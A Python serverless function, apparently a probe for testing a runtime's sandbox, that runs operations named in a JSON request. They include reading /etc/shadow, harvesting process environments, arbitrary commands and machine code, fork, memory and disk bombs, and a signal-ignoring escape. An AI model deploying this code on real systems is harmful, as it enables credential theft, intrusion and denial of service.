"""A hostile function. The body says what to do: {"op": "read", "args": ["/etc/shadow"]}."""
import ctypes
import errno
import json
import mmap
import os
import socket
import struct
import subprocess
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
buffer = ctypes.create_string_buffer(4096)
kept = []


def read(path):
    with open(path, "rb") as f:
        return f.read(200).decode("latin1")


def listing(path):
    return " ".join(os.listdir(path))


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


def tcp(host, port):
    socket.create_connection((host, port), 2).close()


def udp(host, port):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (host, port))


def unix(path):
    if path.startswith("@"):
        path = "\0" + path[1:]
    socket.socket(socket.AF_UNIX).connect(path)


def kill(pid, sig):
    os.kill(pid, sig)


def call(nr, *args):
    """Makes a system call. Text is a pointer to it, "@" one to a buffer."""
    values = []
    for a in args:
        if a == "@":
            values.append(buffer)
        elif isinstance(a, str):
            values.append(ctypes.c_char_p(a.encode()))
        else:
            values.append(ctypes.c_long(a))
    result = libc.syscall(ctypes.c_long(nr), *values)
    if result < 0:
        raise OSError(ctypes.get_errno(), "call")
    return result


def run(*args):
    done = subprocess.run(args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20)
    if done.returncode != 0:
        raise OSError(errno.EPERM, done.stdout.decode("latin1")[:200])
    return done.stdout.decode("latin1")


def machine(*code):
    """Runs machine code."""
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(bytes(code))
    address = ctypes.addressof(ctypes.c_char.from_buffer(m))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()


def memory():
    while True:
        kept.append(bytearray(8 << 20))


def memory_of_files():
    fd = os.memfd_create("bomb")
    while True:
        os.write(fd, bytes(8 << 20))


def forks(*names):
    """Starts processes until there can be no more."""
    n = 0
    try:
        while True:
            kept.append(subprocess.Popen(["sleep", "1000", *names] if names else ["sleep", "1000"]))
            n += 1
    except OSError as e:
        return "%d %s" % (n, errno.errorcode[e.errno])


def disk(path):
    n = 0
    try:
        with open(path, "wb") as f:
            while True:
                n += f.write(bytes(1 << 20))
                f.flush()
    except OSError as e:
        return "%d %s" % (n, errno.errorcode[e.errno])


def files(path):
    n = 0
    try:
        while True:
            open("%s/%d" % (path, n), "w").close()
            n += 1
    except OSError as e:
        return "%d %s" % (n, errno.errorcode[e.errno])


def descriptors():
    n = 0
    try:
        while True:
            kept.append(os.open("/dev/null", os.O_RDONLY))
            n += 1
    except OSError as e:
        for fd in kept:
            os.close(fd)
        kept.clear()
        return "%d %s" % (n, errno.errorcode[e.errno])


def escape(mark):
    """Leaves the session and the parent twice over, and hides from signals."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 100)
            os.execv("/bin/sh", ["sh", "-c", "trap '' 1 2 3 15; sleep %s & wait; wait" % mark])
        os._exit(0)
    time.sleep(0.2)


def scan():
    """Lists the processes that can be seen, with their variables."""
    seen = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            for file in ("cmdline", "environ"):
                try:
                    seen.append(read("/proc/%s/%s" % (name, file)))
                except OSError:
                    pass
    return "\n".join(seen)


ops = {
    "read": read, "list": listing, "write": write, "tcp": tcp, "udp": udp, "unix": unix, "kill": kill, "call": call, "run": run,
    "machine": machine, "memory": memory, "memfd": memory_of_files, "forks": forks, "disk": disk, "files": files,
    "descriptors": descriptors, "escape": escape, "scan": scan, "chmod": os.chmod, "utime": lambda path: os.utime(path, (0, 0)),
    "setuid": os.setuid, "mkfifo": os.mkfifo, "symlink": os.symlink, "link": os.link,
    "environ": lambda: json.dumps(dict(os.environ)), "true": lambda: "true",
}


def main(context):
    order = json.loads(context.req.body_text)
    try:
        got = ops[order["op"]](*order["args"])
    except Exception as e:
        name = errno.errorcode.get(e.errno, "") if isinstance(e, OSError) and e.errno else ""
        return context.res.text("failed %s %s %s" % (name, type(e).__name__, e))
    return context.res.text("did %s" % got)
